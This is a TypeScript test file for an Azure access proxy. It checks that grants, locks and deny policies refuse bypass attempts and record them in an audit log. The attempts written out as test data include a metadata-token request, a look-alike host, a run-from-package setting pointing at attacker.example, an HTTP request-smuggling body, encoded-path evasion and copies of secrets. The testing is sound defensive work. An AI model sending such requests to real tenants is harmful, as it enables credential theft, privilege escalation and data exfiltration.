  const RG = "https://management.azure.com/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups/grant-test?api-version=2022-09-01";
  const put = (app: Awaited<ReturnType<typeof approvedSession>>["app"]) => app.request(RG, { method: "PUT", body: new TextEncoder().encode('{"location":"westeurope"}'), headers: [["content-type", "application/json"]] });

  it("a grant for a requested role ends when the role is edited or deleted mid-grant: never unrestricted, refused and audited", async () => {
    for (const change of ["edit", "delete"] as const) {
      await c.createRoles(PROD_READER);
      const user = nextUser();
      const { app, id } = await approvedSession(user, "1h", ["role-requester"]);
      expect((await app.request(GROUPS)).status).toBe(200);
      // The role's azure_api rule applies under the grant: reads only.
      const write = await put(app);
      expect(write.status).toBe(403);
      expect(JSON.parse(await write.text()).error.code).toBe("AzgatePolicyDenied");
      if (change === "edit") await c.createRoles(PROD_READER.replace(`azure_identities: ['${READER}'], `, "azure_identities: [], "));
      else await removeResource(c.ctx, c.admin, "role", "prod-reader");
      for (const attempt of [() => app.request(GROUPS), () => put(app)]) {
        const refused = await attempt();
        expect(refused.status, change).toBe(403);
        expect(JSON.parse(await refused.text()).error).toMatchObject({ code: "access_denied", message: expect.stringContaining("no longer allows") });
      }
      expect((await events("app.request.denied", user)).map((e) => e.error_code)).toEqual(["policy_denied", "access_denied", "access_denied"]);
      expect(id).toBeTruthy();
    }
    await c.createRoles(PROD_READER);
  });

  it("a lock on a role reaches users who hold it through a grant, on the next request", async () => {
    await c.createRoles(PROD_READER);
    const user = nextUser();
    const { app } = await approvedSession(user, "1h", ["role-requester"]);
    expect((await app.request(GROUPS)).status).toBe(200);
    const lock = await createLock(c.ctx, c.admin, { target: { role: "prod-reader" }, message: "prod freeze" });
    try {
      const refused = await app.request(GROUPS);
      expect(refused.status).toBe(403);
      expect(JSON.parse(await refused.text()).error).toMatchObject({ code: "locked", message: expect.stringContaining("prod freeze") });
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "locked" })]);
    } finally {
      await removeResource(c.ctx, c.admin, "lock", lock.metadata.name);
    }
  });

  it("a grant covers only the apps (labels) its roles allow: a request for an app outside them, or one nobody serves, is refused and audited; the grant never routes to another label's server", async () => {
    await c.createRoles(PROD_READER);
    const dev = c.agent({ app: "dev-app", labels: { env: "dev" } });
    try {
      const user = nextUser();
      const refusals: unknown[] = [];
      const session = await c.appSession(user, ["role-requester"], READER, {
        traits: {},
        beforeAppLogin: async (caller) => {
          for (const appName of ["dev-app", "nobody-serves-this"]) refusals.push(await createRequest(c.ctx, caller, { app: appName, azure_identity: READER, duration: "10m", reason: "x" }, servedApps(c.registry)).catch((e) => e));
          // The one it may ask for, so apps login below has something to use.
          const r = await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: READER, duration: "10m", reason: "x" }, servedApps(c.registry));
          await reviewRequest(c.ctx, c.admin, r.metadata.name, { state: "APPROVED", reason: "ok" });
        },
      });
      expect(refusals).toEqual([expect.objectContaining({ code: "access_denied", message: expect.stringContaining('would not cover app "dev-app"') }), expect.objectContaining({ code: "not_found" })]);
      const audited = (await c.ctx.audit.search({ event: "access_request.create", user })).filter((e) => e.success === false);
      expect(audited.map((e) => [e.app, e.error_code])).toEqual([["dev-app", "access_denied"], ["nobody-serves-this", "not_found"]]);
      expect(await c.ctx.backend.list(KEYS.accessRequests).then((l) => l.filter((i) => (i.value as { spec: { user: string } }).spec.user === user).length)).toBe(1);
      // A dev-labelled server of the granted app is never used under a grant whose role covers env: prod.
      const devOfSameApp = c.agent({ labels: { env: "dev" } });
      try {
        for (let i = 0; i < 4; i++) expect((await session.request(GROUPS)).status).toBe(200);
        expect(devOfSameApp.streams).toBe(0);
      } finally {
        devOfSameApp.kill();
      }
    } finally {
      dev.kill();
    }
  });

  it("a grant follows the user record, not the name: deleting the user ends its requests (audited); a user re-created under the name inherits nothing", async () => {
    const user = nextUser();
    const { app, id } = await approvedSession(user, "1h");
    expect((await app.request(GROUPS)).status).toBe(200);
    const [grantItem] = (await c.ctx.backend.list<AccessGrant>(KEYS.accessGrants)).filter((i) => i.value.spec.request_id === id);
    await removeResource(c.ctx, c.admin, "user", user);
    expect(await events("access_request.revoke", c.admin.name).then((es) => es.filter((e) => e.access_request_id === id))).toEqual([expect.objectContaining({ requester: user, reason: "the user was deleted" })]);
    expect(await c.ctx.backend.get(KEYS.accessGrant(id))).toBeNull();
    // Even a grant left behind (written back here, as a replica that missed the deletion might hold it) is not the new user's.
    await c.ctx.backend.put(grantItem.key, grantItem.value, { expires: new Date(grantItem.value.spec.not_after) });
    const again = await c.appSession(user, ["requester"], READER, { traits: {} }).catch((e) => e);
    expect(again).toMatchObject({ code: "access_denied" });
    expect((await c.ctx.audit.search({ event: "app.session.denied", user })).length).toBeGreaterThan(0);
    await c.ctx.backend.delete(grantItem.key);
  });

  it("a lock on an Azure identity refuses apps login for it before a certificate is issued or an agent asked, audited", async () => {
    const user = nextUser();
    // Spelled another way than the lock's target: the lock still names it.
    const lock = await createLock(c.ctx, c.admin, { target: { azure_identity: READER_SPELLED }, message: "compromised identity" });
    try {
      const tokens = fx.emu.issuedTokens.size;
      const refused = await c.appSession(user, ["azure-cli-access"], READER).catch((e) => e);
      expect(refused).toMatchObject({ code: "locked", message: expect.stringContaining("compromised identity") });
      expect(await events("app.session.start", user)).toEqual([]);
      expect(await events("app.session.denied", user)).toEqual([expect.objectContaining({ error_code: "locked", azure_identity: READER })]);
      expect(fx.emu.issuedTokens.size).toBe(tokens);
      // Another identity is not locked.
      expect((await c.appSession(nextUser(), ["azure-cli-access"], CONTRIB)).login.cert_pem).toContain("BEGIN CERTIFICATE");
    } finally {
      await removeResource(c.ctx, c.admin, "lock", lock.metadata.name);
    }
  });

  it("a lock with a TTL refuses every request until it ends by the cluster's clock, then lets them through", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    await createLock(c.ctx, c.admin, { target: { user }, message: "cool-down", ttl: "15m" });
    const refused = await app.request(GROUPS);
    expect(refused.status).toBe(403);
    expect(JSON.parse(await refused.text()).error).toMatchObject({ code: "locked", message: expect.stringContaining("cool-down") });
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "locked" })]);
    c.clock.advance(15 * 60_000 - 1);
    prod.heartbeat();
    expect((await app.request(GROUPS)).status).toBe(403);
    c.clock.advance(1);
    prod.heartbeat();
    expect((await app.request(GROUPS)).status).toBe(200);
  });

  it("refuses a target that is not Azure and a method Azure does not use, before anything is forwarded", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    const cases: [string, string, number, string][] = [
      ["GET", "https://169.254.169.254/metadata/identity/oauth2/token", 403, "target_refused"],
      ["GET", "https://management.azure.com.evil.example/", 403, "target_refused"],
      ["GET", "http://management.azure.com/subscriptions", 403, "target_refused"],
      ["TRACE", GROUPS, 405, "method_not_allowed"],
    ];
    for (const [method, url, status, code] of cases) {
      const res = await app.request(url, { method });
      expect([url, res.status, JSON.parse(await res.text()).error.code]).toEqual([url, status, code]);
    }
    expect((await events("app.request.denied", user)).map((e) => e.error_code)).toEqual(cases.map((x) => x[3]));
    expect(await events("app.request.start", user)).toEqual([]);
  });

  describe("per-request policy fails closed (issue 29): a deny-only role, the walk-arounds played through the proxy", () => {
    const S = "/subscriptions/00000000-0000-0000-0000-000000000000";
    const ASSIGNMENT = `${S}/resourceGroups/myResourceGroup/providers/Microsoft.Authorization/roleAssignments/3fa85f64-5717-4562-b3fc-2c963f66afa6`;
    const reached = (from: number, part: string) => fx.emu.requests.slice(from).filter((r) => r.path.toLowerCase().includes(part.toLowerCase()));
    const refusedWith = async (res: Awaited<ReturnType<MemoryApp["request"]>>) => {
      expect(res.status).toBe(403);
      return JSON.parse(await res.text()).error as { code: string; message: string };
    };

    it("ARM's /batch (a role assignment inside) is refused, audited; named operations still pass", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      expect((await app.request(GROUPS)).status).toBe(200);
      const from = fx.emu.requests.length;
      const inner = { requests: [{ httpMethod: "PUT", url: `${ASSIGNMENT}?api-version=2022-04-01`, content: { properties: { roleDefinitionId: "x", principalId: "y" } } }] };
      const res = await app.request("https://management.azure.com/batch?api-version=2020-06-01", { method: "POST", body: new TextEncoder().encode(JSON.stringify(inner)), headers: [["content-type", "application/json"]] });
      expect(await refusedWith(res)).toEqual({ code: "AzgatePolicyDenied", message: expect.stringContaining("ARM's /batch carries requests azgate does not read") });
      const [denied] = await events("app.request.denied", user);
      expect(denied).toMatchObject({ method: "POST", host: "management.azure.com", path: "/batch", error_code: "policy_denied", success: false, action: null, policy: { decision: "deny", reason: expect.stringContaining("batches are not allowed") } });
      expect(reached(from, "/batch")).toEqual([]);
    });

    it("an encoded letter in a blob path (/reports/%73ecret.txt) is refused, audited, and nothing reaches storage", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      const from = fx.emu.requests.length;
      for (const url of ["https://sa1.blob.core.windows.net/reports/secret.txt", "https://sa1.blob.core.windows.net/reports/%73ecret.txt", "https://sa1.blob.core.windows.net/reports/secret.txt/"]) {
        const error = await refusedWith(await app.request(url, { resource: "https://storage.azure.com/" }));
        expect(error.code, url).toBe("AzgatePolicyDenied");
      }
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => [e.path, e.error_code])).toEqual([
        ["/reports/secret.txt", "policy_denied"],
        ["/reports/%73ecret.txt", "policy_denied"],
        ["/reports/secret.txt/", "policy_denied"],
      ]);
      expect(denied[0]).toMatchObject({ action: "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read", policy: { decision: "deny", role: "guard", side: "deny", rule: 2 } });
      expect(denied[1]).toMatchObject({ action: null, policy: { decision: "deny", reason: expect.stringContaining('percent-encoded letters, digits, - _ or ~ are not allowed in the path (%73 is "s"') } });
      expect(denied[2]).toMatchObject({ policy: { decision: "deny", role: "guard", rule: 2 } });
      expect(reached(from, "/reports/")).toEqual([]);
    });

    it("a web app slot named providers: the Functions admin token is refused, not read as functions/admin/read and let through by */read past the preset (attack finding 6), audited", async () => {
      await c.createRoles(`kind: role
version: v7
metadata: {name: slot-reader}
spec:
  allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}'], azure_api: [{actions: ['*/read']}]}
  deny: {azure_api: [{preset: no-privilege-escalation}]}
`);
      const user = nextUser();
      const app = await c.appSession(user, ["slot-reader"], READER);
      expect((await app.request(GROUPS)).status).toBe(200);
      const from = fx.emu.requests.length;
      const site = `https://management.azure.com${S}/resourceGroups/web/providers/Microsoft.Web/sites/app1/slots`;
      // The plain slot, then the name spelt providers in other ways: capitals, a trailing slash, a regional host.
      const urls = [`${site}/staging/functions/admin/token`, `${site}/providers/functions/admin/token`, `${site}/PROVIDERS/functions/admin/token/`, `${site.replace("management.", "westeurope.management.")}/Providers/functions/admin/token`];
      for (const url of urls) expect((await refusedWith(await app.request(`${url}?api-version=2022-03-01`))).code, url).toBe("AzgatePolicyDenied");
      const denied = await events("app.request.denied", user);
      expect(denied[0]).toMatchObject({ error_code: "policy_denied", success: false, action: "Microsoft.Web/sites/slots/functions/token/read", policy: { decision: "deny", role: "slot-reader", preset: "no-privilege-escalation" } });
      expect(denied.slice(1)).toEqual([1, 2, 3].map(() => expect.objectContaining({ error_code: "policy_denied", success: false, action: null, policy: { decision: "deny", reason: expect.stringMatching(/a name spelt "providers" \(segment 10, after "slots"\) reads as ARM's providers keyword/i) } })));
      expect(reached(from, "/functions/admin/token")).toEqual([]);
    });

    it("app settings, a Container Apps job's template and start, a Logic App trigger's callback URL: code or a credential under the resource's identity, denied by the preset (attack finding 8), audited", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      const from = fx.emu.requests.length;
      const rg = `https://management.azure.com${S}/resourceGroups/web/providers`;
      const attempts: [string, string, string][] = [
        ["PUT", `${rg}/Microsoft.Web/sites/app1/config/appsettings`, "Microsoft.Web/sites/config/write"],
        ["PUT", `${rg}/Microsoft.Web/sites/app1/slots/staging/config/web`, "Microsoft.Web/sites/slots/config/write"],
        ["PUT", `${rg}/Microsoft.App/jobs/job1`, "Microsoft.App/jobs/write"],
        ["POST", `${rg}/Microsoft.App/jobs/job1/start`, "Microsoft.App/jobs/start/action"],
        ["POST", `${rg}/Microsoft.Logic/workflows/wf1/triggers/manual/listCallbackUrl`, "Microsoft.Logic/workflows/triggers/listCallbackUrl/action"],
      ];
      for (const [method, url] of attempts) {
        const res = await app.request(`${url}?api-version=2023-01-01`, { method, body: new TextEncoder().encode('{"properties":{"WEBSITE_RUN_FROM_PACKAGE":"https://attacker.example/pkg.zip"}}'), headers: [["content-type", "application/json"]] });
        expect((await refusedWith(res)).message, url).toContain("is denied by role guard (preset no-privilege-escalation)");
      }
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => e.action)).toEqual(attempts.map(([, , action]) => action));
      for (const e of denied) expect(e).toMatchObject({ error_code: "policy_denied", success: false, policy: { decision: "deny", role: "guard", preset: "no-privilege-escalation" } });
      expect(fx.emu.requests.slice(from).filter((r) => /\/(config|jobs|workflows)\//i.test(r.path))).toEqual([]);
    });

    it("ADLS Gen2: a delete and a rename through the account's dfs host are Blob's deletes, denied by the role that denies them (attack finding 7), audited", async () => {
      const C = "Microsoft.Storage/storageAccounts/blobServices/containers";
      await c.createRoles(`kind: role
version: v7
metadata: {name: blob-data-guard}
spec:
  deny: {azure_api: [{data_actions: ['${C}/blobs/delete']}]}
  options: {azure_api_unknown: allow}
`);
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "blob-data-guard"], READER);
      const from = fx.emu.requests.length;
      const storage = { resource: "https://storage.azure.com/" };
      for (const url of ["https://sa1.blob.core.windows.net/reports/q1.csv", "https://sa1.dfs.core.windows.net/reports/q1.csv", "https://sa1.dfs.core.windows.net/reports/q1.csv/", "https://sa1.dfs.core.windows.net/reports/2024?recursive=true"]) {
        expect((await refusedWith(await app.request(url, { ...storage, method: "DELETE" }))).code, url).toBe("AzgatePolicyDenied");
      }
      // A rename moves its source away: the source's delete is decided too.
      const rename = await app.request("https://sa1.dfs.core.windows.net/trash/q1.csv?mode=legacy", { ...storage, method: "PUT", headers: [["x-ms-rename-source", "/reports/q1.csv"]] });
      expect((await refusedWith(rename)).message).toMatch(/the rename's source, removed: .*blobs\/delete on https:\/\/sa1\.blob\.core\.windows\.net\/reports\/q1\.csv is denied by role blob-data-guard/);
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => [e.method, e.host, e.error_code, e.action, e.scope])).toEqual([
        ["DELETE", "sa1.blob.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
        ["DELETE", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
        ["DELETE", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
        ["DELETE", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/2024"],
        ["PUT", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
      ]);
      for (const e of denied) expect(e).toMatchObject({ success: false, policy: { decision: "deny", role: "blob-data-guard", side: "deny", rule: 1 } });
      expect(fx.emu.requests.slice(from).filter((r) => /\/(reports|trash)/.test(r.path))).toEqual([]);

      // The guard's rule written for the blob host (GET /reports/secret.txt) decides the dfs read by name.
      const reader = nextUser();
      const guarded = await c.appSession(reader, ["azure-cli-access", "guard"], READER);
      expect((await refusedWith(await guarded.request("https://sa1.dfs.core.windows.net/reports/secret.txt", storage))).code).toBe("AzgatePolicyDenied");
      expect(await events("app.request.denied", reader)).toEqual([expect.objectContaining({ host: "sa1.dfs.core.windows.net", action: `${C}/blobs/read`, policy: expect.objectContaining({ decision: "deny", role: "guard", side: "deny", rule: 2 }) })]);
    });

    it("a Blob copy whose source the guard denies reading (/reports/secret.txt) is refused: no copying it where it may be read, audited", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      const from = fx.emu.requests.length;
      const copy = (source: string) => app.request("https://sa1.blob.core.windows.net/public/leak.txt", { resource: "https://storage.azure.com/", method: "PUT", body: new Uint8Array(0), headers: [["x-ms-copy-source", source], ["x-ms-blob-type", "BlockBlob"]] });
      for (const source of ["https://sa1.blob.core.windows.net/reports/secret.txt", "https://sa1.dfs.core.windows.net/reports/secret.txt?sv=2023-01-03&sig=x"]) {
        expect((await refusedWith(await copy(source))).message, source).toMatch(/the copy's source, read: .*blobs\/read on https:\/\/sa1\.blob\.core\.windows\.net\/reports\/secret\.txt is denied by role guard \(deny rule 2\)/);
      }
      const denied = await events("app.request.denied", user);
      expect(denied).toEqual([1, 2].map(() => expect.objectContaining({ method: "PUT", path: "/public/leak.txt", error_code: "policy_denied", action: "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read", scope: "https://sa1.blob.core.windows.net/reports/secret.txt", policy: expect.objectContaining({ decision: "deny", role: "guard", rule: 2 }) })));
      expect(reached(from, "/public/")).toEqual([]);
    });

    // Round 2 of the review (F1): one account's data under several host names.
    it("a storage account's secondary, private-link and dfs names are its data: the account's deny refuses them, a copy from the secondary too, audited, nothing reaches storage", async () => {
      await c.createRoles(`kind: role
version: v7
metadata: {name: sa-guard}
spec:
  deny:
    azure_api:
      - {data_actions: ['Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read'], hosts: ['sa1.blob.core.windows.net']}
  options: {azure_api_unknown: allow}
`);
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "sa-guard"], READER);
      const from = fx.emu.requests.length;
      const storage = { resource: "https://storage.azure.com/" };
      const hosts = ["sa1-secondary.blob.core.windows.net", "SA1-Secondary.dfs.core.windows.net", "sa1.privatelink.blob.core.windows.net", "sa1-secondary.privatelink.dfs.core.windows.net"];
      for (const host of hosts) expect((await refusedWith(await app.request(`https://${host}/reports/q1.txt`, storage))).code, host).toBe("AzgatePolicyDenied");
      const copy = await app.request("https://sa1.blob.core.windows.net/public/q1.txt", { ...storage, method: "PUT", body: new Uint8Array(0), headers: [["x-ms-copy-source", "https://sa1-secondary.blob.core.windows.net/reports/q1.txt"]] });
      expect((await refusedWith(copy)).message).toMatch(/the copy's source, read: .*blobs\/read on https:\/\/sa1\.blob\.core\.windows\.net\/reports\/q1\.txt is denied by role sa-guard/);
      // A storage host that names no one account is refused, not read as another host.
      expect((await refusedWith(await app.request("https://x.sa1.blob.core.windows.net/reports/q1.txt", storage))).message).toContain("is not a storage account's host");
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => [e.host, e.error_code, e.action, e.scope])).toEqual([
        ...hosts.map((h) => [h.toLowerCase(), "policy_denied", "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read", "https://sa1.blob.core.windows.net/reports/q1.txt"]),
        ["sa1.blob.core.windows.net", "policy_denied", "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read", "https://sa1.blob.core.windows.net/reports/q1.txt"],
        ["x.sa1.blob.core.windows.net", "policy_denied", null, null],
      ]);
      for (const e of denied.slice(0, 5)) expect(e).toMatchObject({ success: false, policy: { decision: "deny", role: "sa-guard", side: "deny", rule: 1 } });
      expect(denied[5]).toMatchObject({ policy: { decision: "deny", reason: expect.stringContaining("is not a storage account's host") } });
      expect(await events("app.request.start", user)).toEqual([]);
      expect(fx.emu.requests.slice(from).filter((r) => /sa1/.test(r.host))).toEqual([]);
    });

    // Round 2 (F2): a backup is the secret, exportable.
    it("a vault's secret backup (and a certificate's, its private key) is refused by a deny on reading the secret, audited, nothing reaches the vault", async () => {
      await c.createRoles(`kind: role
version: v7
metadata: {name: kv-guard}
spec:
  deny:
    azure_api:
      - {data_actions: ['Microsoft.KeyVault/vaults/secrets/getSecret/action'], hosts: ['kv1.vault.azure.net']}
  options: {azure_api_unknown: allow}
`);
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "kv-guard"], READER);
      const from = fx.emu.requests.length;
      const vault = { resource: "https://vault.azure.net", method: "POST", body: new Uint8Array(0), headers: [["content-length", "0"]] as [string, string][] };
      for (const path of ["/secrets/db-password/backup", "/Secrets/db-password/Backup", "/certificates/web/backup"]) {
        const error = await refusedWith(await app.request(`https://kv1.vault.azure.net${path}?api-version=7.4`, vault));
        expect(error, path).toEqual({ code: "AzgatePolicyDenied", message: expect.stringMatching(/^azgate: the backed-up (secret|certificate's private key \(its secret\)), read: Microsoft\.KeyVault\/vaults\/secrets\/getSecret\/action on https:\/\/kv1\.vault\.azure\.net\/secrets\/(db-password|web) is denied by role kv-guard/i) });
      }
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => [e.path, e.error_code, e.action, e.scope])).toEqual([
        ["/secrets/db-password/backup", "policy_denied", "Microsoft.KeyVault/vaults/secrets/getSecret/action", "https://kv1.vault.azure.net/secrets/db-password"],
        ["/Secrets/db-password/Backup", "policy_denied", "Microsoft.KeyVault/vaults/secrets/getSecret/action", "https://kv1.vault.azure.net/secrets/db-password"],
        ["/certificates/web/backup", "policy_denied", "Microsoft.KeyVault/vaults/secrets/getSecret/action", "https://kv1.vault.azure.net/secrets/web"],
      ]);
      for (const e of denied) expect(e).toMatchObject({ success: false, policy: { decision: "deny", role: "kv-guard", side: "deny", rule: 1 } });
      expect(await events("app.request.start", user)).toEqual([]);
      expect(fx.emu.requests.slice(from).filter((r) => /kv1/.test(r.host))).toEqual([]);
    });

    // Round 2 (F3): credentials handed out on data hosts, past a preset that lets unnamed operations through.
    it("a user delegation key (blob and dfs hosts) is denied by the preset, Key Vault's managed storage SAS refused, even with azure_api_unknown: allow; audited, nothing reaches Azure", async () => {
      await c.createRoles(`kind: role
version: v7
metadata: {name: lenient-guard}
spec:
  deny:
    azure_api: [{preset: no-privilege-escalation}]
  options: {azure_api_unknown: allow}
`);
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "lenient-guard"], READER);
      const from = fx.emu.requests.length;
      const body = new TextEncoder().encode("<?xml version=\"1.0\"?><KeyInfo><Start>2030-01-01T00:00:00Z</Start><Expiry>2030-01-08T00:00:00Z</Expiry></KeyInfo>");
      const post = { resource: "https://storage.azure.com/", method: "POST", body, headers: [["content-length", String(body.length)]] as [string, string][] };
      for (const host of ["sa1.blob.core.windows.net", "sa1.dfs.core.windows.net"]) {
        const error = await refusedWith(await app.request(`https://${host}/?restype=service&comp=userdelegationkey`, post));
        expect(error, host).toEqual({ code: "AzgatePolicyDenied", message: expect.stringContaining("Microsoft.Storage/storageAccounts/blobServices/generateUserDelegationKey/action on https://sa1.blob.core.windows.net is denied by role lenient-guard (preset no-privilege-escalation)") });
      }
      const sas = await refusedWith(await app.request("https://kv1.vault.azure.net/storage/sa1/sas/readonly?api-version=7.4", { resource: "https://vault.azure.net" }));
      expect(sas).toEqual({ code: "AzgatePolicyDenied", message: expect.stringContaining("Key Vault's managed storage accounts hand out the account's SAS tokens and keys") });
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => [e.host, e.path, e.error_code, e.action])).toEqual([
        ["sa1.blob.core.windows.net", "/", "policy_denied", "Microsoft.Storage/storageAccounts/blobServices/generateUserDelegationKey/action"],
        ["sa1.dfs.core.windows.net", "/", "policy_denied", "Microsoft.Storage/storageAccounts/blobServices/generateUserDelegationKey/action"],
        ["kv1.vault.azure.net", "/storage/sa1/sas/readonly", "policy_denied", null],
      ]);
      for (const e of denied.slice(0, 2)) expect(e).toMatchObject({ success: false, policy: { decision: "deny", role: "lenient-guard", preset: "no-privilege-escalation" } });
      expect(denied[2]).toMatchObject({ success: false, policy: { decision: "deny", reason: expect.stringContaining("managed storage accounts") } });
      expect(await events("app.request.start", user)).toEqual([]);
      expect(fx.emu.requests.slice(from).filter((r) => /sa1|kv1/.test(r.host))).toEqual([]);
    });

    // Round 2 (F6): Microsoft Graph names one call several ways.
    it("Microsoft Graph: a paths deny on addPassword refuses OData's other spellings and another Graph host, audited, nothing reaches Graph", async () => {
      await c.createRoles(`kind: role
version: v7
metadata: {name: graph-guard}
spec:
  deny:
    azure_api:
      - {methods: [POST], hosts: [graph.microsoft.com], paths: ['/v1.0/applications/*/addPassword']}
  options: {azure_api_unknown: allow}
`);
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "graph-guard"], READER);
      const from = fx.emu.requests.length;
      const APP = "5b1d9f0e-0000-4000-8000-000000000001";
      const post = { resource: "https://graph.microsoft.com", method: "POST", body: new TextEncoder().encode("{}"), headers: [["content-type", "application/json"]] as [string, string][] };
      const urls = [
        `https://graph.microsoft.com/v1.0/applications/${APP}/addPassword`,
        "https://graph.microsoft.com/v1.0/applications(appId='00000000-0000-4000-8000-000000000010')/addPassword",
        `https://graph.microsoft.com/v1.0/applications/${APP}/microsoft.graph.addPassword`,
        `https://canary.graph.microsoft.com/v1.0/applications/${APP}/addPassword`,
      ];
      for (const url of urls) expect((await refusedWith(await app.request(url, post))).code, url).toBe("AzgatePolicyDenied");
      const denied = await events("app.request.denied", user);
      expect(denied.map((e) => [e.host, e.error_code])).toEqual([
        ["graph.microsoft.com", "policy_denied"],
        ["graph.microsoft.com", "policy_denied"],
        ["graph.microsoft.com", "policy_denied"],
        ["canary.graph.microsoft.com", "policy_denied"],
      ]);
      for (const i of [0, 3]) expect(denied[i]).toMatchObject({ success: false, policy: { decision: "deny", role: "graph-guard", side: "deny", rule: 1 } });
      for (const i of [1, 2]) expect(denied[i]).toMatchObject({ success: false, policy: { decision: "deny", reason: expect.stringContaining("another spelling of a Graph call") } });
      expect(await events("app.request.start", user)).toEqual([]);
      expect(fx.emu.requests.slice(from).filter((r) => /graph/.test(r.host))).toEqual([]);
    });

    it("a role assignment through a regional ARM host is named and denied by the preset, audited", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      const from = fx.emu.requests.length;
      const res = await app.request(`https://westeurope.management.azure.com${ASSIGNMENT}?api-version=2022-04-01`, { method: "PUT", body: new TextEncoder().encode("{}") });
      expect((await refusedWith(res)).message).toContain("is denied by role guard (preset no-privilege-escalation)");
      expect(await events("app.request.denied", user)).toEqual([
        expect.objectContaining({ host: "westeurope.management.azure.com", error_code: "policy_denied", action: "Microsoft.Authorization/roleAssignments/write", policy: expect.objectContaining({ decision: "deny", role: "guard", preset: "no-privilege-escalation" }) }),
      ]);
      expect(reached(from, "/roleAssignments/")).toEqual([]);
    });

    it.each([
      ["a trailing slash", (p: string) => `https://management.azure.com${p}/?api-version=2022-04-01`, "management.azure.com"],
      ["a trailing dot on the host", (p: string) => `https://management.azure.com.${p}?api-version=2022-04-01`, "management.azure.com."],
      ["both, and the port", (p: string) => `https://management.azure.com.:443${p}/?api-version=2022-04-01`, "management.azure.com."],
    ])("a role assignment spelt with %s is the same operation: denied by the preset, audited, nothing reaches Azure (issue 29, defect 2)", async (_what, url, host) => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      const from = fx.emu.requests.length;
      const res = await app.request(url(ASSIGNMENT), { method: "PUT", body: new TextEncoder().encode("{}") });
      expect((await refusedWith(res)).message).toContain("is denied by role guard (preset no-privilege-escalation)");
      expect(await events("app.request.denied", user)).toEqual([
        expect.objectContaining({ host, error_code: "policy_denied", success: false, action: "Microsoft.Authorization/roleAssignments/write", policy: expect.objectContaining({ decision: "deny", role: "guard", preset: "no-privilege-escalation" }) }),
      ]);
      expect(await events("app.request.start", user)).toEqual([]);
      expect(reached(from, "/roleAssignments/")).toEqual([]);
    });
  });

  // Found by the attack on issue 29's controls: a body is framed by azgate (src/azure/framing.ts), never as the client sent it.
  describe("request smuggling: a body the next hop could read as another request", () => {
    const S = "/subscriptions/00000000-0000-0000-0000-000000000000";
    const RG = `https://management.azure.com${S}/resourcegroups/myResourceGroup?api-version=2022-09-01`;
    const smuggled = `DELETE ${S}/resourcegroups/myResourceGroup?api-version=2022-09-01 HTTP/1.1\r\nX-Ignore: `;
    const deletes = (from: number) => fx.emu.requests.slice(from).filter((r) => r.method === "DELETE");

    it("a GET with a body (an allowed read carrying a DELETE) is refused at the proxy, audited, and nothing reaches Azure; the next request is only itself", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
      const from = fx.emu.requests.length;
      const res = await app.request(GROUPS, { body: new TextEncoder().encode(smuggled) });
      expect(res.status).toBe(400);
      expect(JSON.parse(await res.text()).error).toMatchObject({ code: "bad_request", message: expect.stringContaining("a GET request carries no body") });
      expect((await app.request(GROUPS)).status).toBe(200);
      expect(deletes(from)).toEqual([]);
      expect(fx.emu.world.resource_groups.some((g) => g.name === "myResourceGroup")).toBe(true);
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ method: "GET", error_code: "bad_request", success: false })]);
    });

    it("a declared length the body does not keep (a short POST whose tail is another request) never reaches Azure as two requests", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access"], READER);
      const from = fx.emu.requests.length;
      const body = new TextEncoder().encode(`{}${smuggled}`);
      // The agent sends exactly the declared 2 bytes or nothing: the upstream request is aborted, the stream reset.
      const outcome = await app
        .request(`https://management.azure.com${S}/resourcegroups/myResourceGroup/providers/Microsoft.Resources/tags/default/x?api-version=2022-09-01`, { method: "POST", body, headers: [["content-length", "2"], ["content-type", "application/json"]] })
        .then(async (res) => (await res.text(), res.status))
        .catch((e: Error) => e.message);
      expect(String(outcome)).toMatch(/^4\d\d$|reset/);
      expect(deletes(from)).toEqual([]);
